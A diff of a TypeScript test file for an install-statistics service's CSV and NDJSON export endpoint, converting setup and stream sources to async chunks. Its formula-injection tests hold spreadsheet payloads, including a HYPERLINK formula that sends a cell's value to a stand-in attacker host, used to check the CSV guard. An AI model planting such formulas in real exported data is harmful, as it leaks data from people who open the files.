@@ -6,7 +6,7 @@ import { createLogger } from "../src/log.ts";
 import { CONTENT_TYPES, EXPORT_COLUMNS, csvHeader, csvRow, exportFilename, exportStream, ndjsonLine } from "../src/read/export.ts";
 import { InstallRecord, toRecord } from "../src/read/record.ts";
 import type { MaintenanceReads, StoreReads, WriteOp } from "../src/store/contract.ts";
-import { startReport, testApp } from "./helpers/app.ts";
+import { startReport, testApp, type TestApp } from "./helpers/app.ts";
 import type { Install } from "../src/domain/install.ts";
 
 /** DESIGN.md section 3, in order. */
@@ -20,8 +20,8 @@ const HOUR = 3_600_000;
 const DAY = 24 * HOUR;
 
 /** The test app with the export plugin mounted on the full app (so QueryError and validation answer 422 as in production). */
-function setup(store?: (t: ReturnType<typeof testApp>) => StoreReads & MaintenanceReads) {
-  const t = testApp();
+async function setup(store?: (t: TestApp) => StoreReads & MaintenanceReads) {
+  const t = await testApp();
   const log = createLogger("error", () => {}, t.clock);
   // The full app (export is mounted there), over the given store wrapper when a test needs one.
   const app = createApp({ config: t.config, store: store ? store(t) : t.store, writer: t.writer, clock: t.clock, version: "0.0.0-test", log, metrics: t.metrics, maintenance: t.maintenance });
@@ -132,14 +132,14 @@ async function readAll(stream: ReadableStream<Uint8Array>): Promise<{ chunks: nu
 }
 
 describe("pure formatting", () => {
-  test("the columns are the record's fields in DESIGN.md order, and the CSV header names them", () => {
+  test("the columns are the record's fields in DESIGN.md order, and the CSV header names them", async () => {
     expect(EXPORT_COLUMNS).toEqual(DESIGN_FIELDS as typeof EXPORT_COLUMNS);
     expect(Object.keys(InstallRecord.properties)).toEqual(DESIGN_FIELDS);
     expect(Object.keys(toRecord(row()))).toEqual(DESIGN_FIELDS);
     expect(csvHeader()).toBe(`${DESIGN_FIELDS.join(",")}\r\n`);
   });
 
-  test("csvRow: null empty, booleans true/false, numbers as is, quoting only where needed", () => {
+  test("csvRow: null empty, booleans true/false, numbers as is, quoting only where needed", async () => {
     const record = toRecord(row({ diskSize: 0.5, ctType: null, error: 'he said "no", then\nleft\r\nagain', repaired: true, durationMs: null, osVersion: "" }));
     const line = csvRow(record);
     expect(line).toBe(
@@ -152,7 +152,7 @@ describe("pure formatting", () => {
     expect(cells).toEqual(asCells(record));
   });
 
-  test("formula-injection guard: a text cell starting with = + - @ TAB CR gets a leading quote", () => {
+  test("formula-injection guard: a text cell starting with = + - @ TAB CR gets a leading quote", async () => {
     const cases: [string, string][] = [
       ['=HYPERLINK("http://evil.example","click")', `'=HYPERLINK("http://evil.example","click")`],
       ["+1", "'+1"],
@@ -177,14 +177,14 @@ describe("pure formatting", () => {
     expect(csvRow(toRecord(row({ nsapp: "\rX" })))).toContain(`,"'\rX",`);
   });
 
-  test("numeric columns are never guarded: a negative number stays a number", () => {
+  test("numeric columns are never guarded: a negative number stays a number", async () => {
     const record = toRecord(row({ diskSize: -1.5, ramSize: -2048, durationMs: -1000 }));
     expect(cellOf(record, "disk_size")).toBe("-1.5");
     expect(cellOf(record, "ram_size")).toBe("-2048");
     expect(cellOf(record, "duration_s")).toBe("-1");
   });
 
-  test("ndjsonLine is the record as JSON, one line, newline-terminated, lossless", () => {
+  test("ndjsonLine is the record as JSON, one line, newline-terminated, lossless", async () => {
     const record = toRecord(row({ error: 'quote " comma , newline \n CR \r tab \t =1+1 日本語 🚀 \u2028', nsapp: "=HYPERLINK(1)" }));
     const line = ndjsonLine(record);
     expect(line.endsWith("\n")).toBe(true);
@@ -193,7 +193,7 @@ describe("pure formatting", () => {
     expect(Object.keys(JSON.parse(line))).toEqual(DESIGN_FIELDS);
   });
 
-  test("exportFilename is a UTC timestamp without colons", () => {
+  test("exportFilename is a UTC timestamp without colons", async () => {
     expect(exportFilename(Date.parse("2026-06-01T12:34:56.789Z"), "csv")).toBe("installstats-20260601T123456Z.csv");
     expect(exportFilename(Date.parse("2026-06-01T12:34:56Z"), "ndjson")).toBe("installstats-20260601T123456Z.ndjson");
   });
@@ -201,35 +201,39 @@ describe("pure formatting", () => {
 
 describe("exportStream", () => {
   const rows = (n: number) => Array.from({ length: n }, (_, i) => row({ randomId: `r-${i}`, createdAt: i }));
+  /** The rows in chunks of `size`, as the store hands them over. */
+  async function* chunked(list: Install[], size: number) {
+    for (let i = 0; i < list.length; i += size) yield list.slice(i, i + size);
+  }
 
-  test("one chunk per chunkRows rows, header first, everything once and in order", async () => {
-    const csv = await readAll(exportStream(rows(10), "csv", 3));
+  test("one body chunk per store chunk, header first, everything once and in order", async () => {
+    const csv = await readAll(exportStream(chunked(rows(10), 3), "csv"));
     expect(csv.chunks).toBe(4);
     expect(csv.text).toBe(csvHeader() + rows(10).map((r) => csvRow(toRecord(r))).join(""));
-    const nd = await readAll(exportStream(rows(9), "ndjson", 3));
+    const nd = await readAll(exportStream(chunked(rows(9), 3), "ndjson"));
     expect(nd.chunks).toBe(3);
     expect(nd.text).toBe(rows(9).map((r) => ndjsonLine(toRecord(r))).join(""));
   });
 
   test("no rows: the header alone (csv), nothing (ndjson)", async () => {
-    expect(await readAll(exportStream([], "csv", 5))).toEqual({ chunks: 1, text: csvHeader() });
-    expect(await readAll(exportStream([], "ndjson", 5))).toEqual({ chunks: 0, text: "" });
+    expect(await readAll(exportStream(chunked([], 5), "csv"))).toEqual({ chunks: 1, text: csvHeader() });
+    expect(await readAll(exportStream(chunked([], 5), "ndjson"))).toEqual({ chunks: 0, text: "" });
   });
 
   test("pull-based: rows are read only as the consumer reads, never the whole source ahead", async () => {
     let produced = 0;
     let closed = false;
-    function* source() {
+    async function* source() {
       try {
-        for (let i = 0; i < 1_000_000; i++) {
-          produced++;
-          yield row({ randomId: `r-${i}` });
+        for (let i = 0; i < 10_000; i++) {
+          produced += 100;
+          yield Array.from({ length: 100 }, (_, j) => row({ randomId: `r-${i}-${j}` }));
         }
       } finally {
         closed = true;
       }
     }
-    const reader = exportStream(source(), "ndjson", 100).getReader();
+    const reader = exportStream(source(), "ndjson").getReader();
     await reader.read();
     await Bun.sleep(5);
     // The chunk read plus at most one queued ahead (the stream's high-water mark).
@@ -241,27 +245,22 @@ describe("exportStream", () => {
 
   test("an error from the source errors the stream and closes the source", async () => {
     let closed = false;
-    function* source() {
+    async function* source() {
       try {
-        yield row();
+        yield [row()];
         throw new Error("disk on fire");
       } finally {
         closed = true;
       }
     }
-    await expect(readAll(exportStream(source(), "csv", 10))).rejects.toThrow("disk on fire");
+    await expect(readAll(exportStream(source(), "csv"))).rejects.toThrow("disk on fire");
     expect(closed).toBe(true);
-  });
-
-  test("chunkRows must be a positive integer", () => {
-    expect(() => exportStream([], "csv", 0)).toThrow(RangeError);
-    expect(() => exportStream([], "csv", 1.5)).toThrow(RangeError);
   });
 });
 
 describe("GET /api/export", () => {
   /** Records with the awkward values real clients send, each at its own time (oldest first). */
-  async function seedAwkward(t: ReturnType<typeof setup>) {
+  async function seedAwkward(t: Awaited<ReturnType<typeof setup>>) {
     const ids: string[] = [];
     const start = async (id: string, fields: Record<string, unknown> = {}, drop: string[] = []) => {
       const body: Record<string, unknown> = startReport(id, fields);
@@ -287,14 +286,14 @@ describe("GET /api/export", () => {
     return ids;
   }
 
-  const recordOf = async (t: ReturnType<typeof setup>, id: string) => {
+  const recordOf = async (t: Awaited<ReturnType<typeof setup>>, id: string) => {
     const res = await t.get(`/api/installs/${encodeURIComponent(id)}`);
     expect(res.status).toBe(200);
     return res.body;
   };
 
   test("NDJSON round trip: every line equals GET /api/installs/{id}, oldest first", async () => {
-    const t = setup();
+    const t = await setup();
     const ids = await seedAwkward(t);
     const lines = parseNdjson(await t.exportText("?format=ndjson"));
     expect(lines.map((r) => r.random_id)).toEqual(ids);
@@ -311,7 +310,7 @@ describe("GET /api/export", () => {
   });
 
   test("CSV round trip: a strict RFC 4180 parse gives back every field as text", async () => {
-    const t = setup();
+    const t = await setup();
     const ids = await seedAwkward(t);
     const text = await t.exportText("?format=csv");
     const [header, ...rows] = parseCsv(text);
@@ -323,7 +322,7 @@ describe("GET /api/export", () => {
   });
 
   test("CSV cells are guarded against formula injection; NDJSON keeps the values as they are", async () => {
-    const t = setup();
+    const t = await setup();
     const payloads = { hyperlink: '=HYPERLINK("http://evil.example/?"&A1,"click")', plus: "+1", minus: "-2+3", at: "@SUM(1)" };
     await t.post("/upload", startReport("inj-1", { nsapp: payloads.hyperlink, method: payloads.plus }));
     await t.post("/upload/updatestatus", { status: "failed", error: payloads.minus, random_id: "inj-1" });
@@ -349,7 +348,7 @@ describe("GET /api/export", () => {
   });
 
   test("the filters of GET /api/installs apply, with the same results", async () => {
-    const t = setup();
+    const t = await setup();
     // Three days, mixed apps, types and outcomes.
     const plan = [
       { id: "d1-a", day: 0, nsapp: "jellyfin", type: "lxc", final: "done" },
@@ -390,7 +389,7 @@ describe("GET /api/export", () => {
   });
 
   test("an empty result is the header alone (csv) and an empty body (ndjson)", async () => {
-    const t = setup();
+    const t = await setup();
     expect(await t.exportText("?format=csv")).toBe(csvHeader());
     expect(await t.exportText("?format=ndjson")).toBe("");
     await t.post("/upload", startReport("x"));
@@ -399,7 +398,7 @@ describe("GET /api/export", () => {
   });
 
   test("headers: content type per format, attachment with a UTC-stamped file name; csv by default", async () => {
-    const t = setup();
+    const t = await setup();
     for (const [qs, type, ext] of [["?format=csv", CONTENT_TYPES.csv, "csv"], ["?format=ndjson", CONTENT_TYPES.ndjson, "ndjson"], ["", CONTENT_TYPES.csv, "csv"]] as const) {
       const res = await t.exportRes(qs);
       expect(res.status).toBe(200);
@@ -413,7 +412,7 @@ describe("GET /api/export", () => {
   });
 
   test("bad parameters answer 422 before any export starts", async () => {
-    const t = setup();
+    const t = await setup();
     for (const [qs, field] of [["?format=xlsx", "format"], ["?from=yesterday", "from"], ["?days=3&from=2026-01-01", "days"], ["?outcome=great", "outcome"], ["?from=2026-06-02&to=2026-06-01", "from"]] as const) {
       const res = await t.exportRes(qs);
       expect({ qs, status: res.status }).toEqual({ qs, status: 422 });
@@ -422,7 +421,7 @@ describe("GET /api/export", () => {
   });
 
   test("the route is in the OpenAPI document with both content types", async () => {
-    const t = setup();
+    const t = await setup();
     const spec = (await (await t.exportApp.handle(new Request("http://localhost/openapi/json"))).json()) as any;
     const op = spec.paths["/api/export"]?.get;
     expect(op.tags).toEqual(["installs"]);
@@ -435,13 +434,13 @@ describe("GET /api/export", () => {
 
 describe("cancellation", () => {
   /** The real store, with iterateInstalls wrapped to count opened and closed iterators. */
-  function tracking(t: ReturnType<typeof testApp>) {
+  function tracking(t: TestApp) {
     const counts = { opened: 0, closed: 0 };
     const store: StoreReads & MaintenanceReads = Object.assign(Object.create(t.store) as StoreReads & MaintenanceReads, {
-      *iterateInstalls(filter: Parameters<StoreReads["iterateInstalls"]>[0]) {
+      async *installChunks(...args: Parameters<StoreReads["installChunks"]>) {
         counts.opened++;
         try {
-          yield* t.store.iterateInstalls(filter); // return() reaches the store's iterator, which finalizes its statement
+          yield* t.store.installChunks(...args); // return() reaches the store's iterator
         } finally {
           counts.closed++;
         }
@@ -452,7 +451,7 @@ describe("cancellation", () => {
 
   test("a cancelled export closes the store's iterator; the database is fully usable after", async () => {
     let tracked!: ReturnType<typeof tracking>;
-    const t = setup((base) => (tracked = tracking(base)).store);
+    const t = await setup((base) => (tracked = tracking(base)).store);
     seedRows((ops) => t.store.write(ops), 5000, t.clock() - DAY);
 
     const res = await t.exportRes("?format=ndjson");
@@ -470,8 +469,8 @@ describe("cancellation", () => {
     expect(parseNdjson(await t.exportText("?format=ndjson"))).toHaveLength(5001);
   });
 
-  test("the VACUUM check above would catch a statement left open", () => {
-    const t = testApp();
+  test("the VACUUM check above would catch a statement left open", async () => {
+    const t = await testApp();
     const open = t.sqlite.prepare("SELECT 1 UNION ALL SELECT 2").iterate();
     open.next();
     expect(() => t.sqlite.run("VACUUM")).toThrow(/statements in progress/);
@@ -482,13 +481,13 @@ describe("cancellation", () => {
   test("over HTTP, a client that goes away cancels the export", async () => {
     // An endless source: only a cancel can end it.
     const counts = { pulled: 0, closed: 0 };
-    const t = setup((base) =>
+    const t = await setup((base) =>
       Object.assign(Object.create(base.store) as StoreReads & MaintenanceReads, {
-        *iterateInstalls() {
+        async *installChunks() {
           try {
             for (let i = 0; ; i++) {
               counts.pulled++;
-              yield row({ randomId: `endless-${i}`, error: "x".repeat(200) });
+              yield Array.from({ length: 100 }, (_, j) => row({ randomId: `endless-${i}-${j}`, error: "x".repeat(200) }));
             }
           } finally {
             counts.closed++;
@@ -519,7 +518,7 @@ describe("cancellation", () => {
   });
 
   test("two concurrent exports with the same filters both complete", async () => {
-    const t = setup();
+    const t = await setup();
     seedRows((ops) => t.store.write(ops), 5000, t.clock() - DAY);
     const [a, b] = await Promise.all([t.exportRes("?format=ndjson"), t.exportRes("?format=ndjson")]);
     const [ta, tb] = await Promise.all([a.text(), b.text()]);
